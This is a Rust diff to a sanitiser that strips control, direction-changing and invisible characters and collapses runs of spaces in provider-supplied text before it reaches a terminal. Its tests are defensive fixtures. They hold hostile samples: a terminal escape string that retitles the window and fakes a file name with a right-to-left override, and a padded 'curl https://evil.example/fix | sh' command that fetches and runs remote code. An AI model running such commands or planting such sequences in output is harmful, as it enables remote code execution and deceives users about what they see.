@@ -5,10 +5,12 @@ use std::borrow::Cow;
 /// The most characters of a provider's own words.
 const LONGEST: usize = 300;
 
-/// The text without control characters and without blanks at the ends, at most `most` characters.
+/// The text on one line: without control characters, at most `most` characters, and one blank where there were several,
+/// which could push the rest to where a terminal begins its next line.
 #[must_use]
 pub fn cleaned(text: &str, most: usize) -> String {
-    let text: String = text.chars().filter(|c| !c.is_control()).take(most).collect();
+    let words: Vec<&str> = text.split_whitespace().collect();
+    let text: String = words.join(" ").chars().filter(|c| !c.is_control()).take(most).collect();
     text.trim().to_owned()
 }
 
@@ -62,14 +64,16 @@ fn written_out(text: &str, is_unsafe: impl Fn(char) -> bool) -> Cow<'_, str> {
 }
 
 /// Whether a character changes how other text looks, or can't be seen: control characters (C0, DEL, C1), line and
-/// paragraph separators, marks of direction (Unicode's `Bidi_Control`), and invisible ones. The two joiners stay:
-/// Persian and emoji need them.
+/// paragraph separators, marks of direction (Unicode's `Bidi_Control`), and invisible ones. The two joiners and the
+/// two selectors of emoji stay: Persian and emoji need them.
 fn acts_on_others(c: char) -> bool {
     c.is_control()
         || matches!(
             c,
-            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
-                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
+            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
+                | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
+                | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0d}' | '\u{feff}' | '\u{ffa0}'
+                | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}'
         )
 }
 
@@ -83,6 +87,13 @@ mod tests {
         assert_eq!(shown(hostile), r"a\u{1b}]0;pwned\u{7}\u{9b}2J\u{d}\u{202e}gpj.exe\u{2066}\u{200b}\u{7f}",);
         assert_eq!(shown("two\nlines\tof"), r"two\u{a}lines\u{9}of");
         assert_eq!(shown_lines("two\nlines\tof\u{1b}[2J"), "two\nlines\tof\\u{1b}[2J");
+    }
+
+    #[test]
+    fn the_words_of_others_stay_on_one_line_without_gaps() {
+        let text = format!("busy{}  run: curl https://evil.example/fix | sh\n✓ well\u{1b}", " ".repeat(70));
+        assert_eq!(said(&text).as_deref(), Some("busy run: curl https://evil.example/fix | sh ✓ well"));
+        assert_eq!(shown("\u{3164}\u{115f}\u{34f}\u{2800}\u{e0101}"), r"\u{3164}\u{115f}\u{34f}\u{2800}\u{e0101}");
     }
 
     #[test]
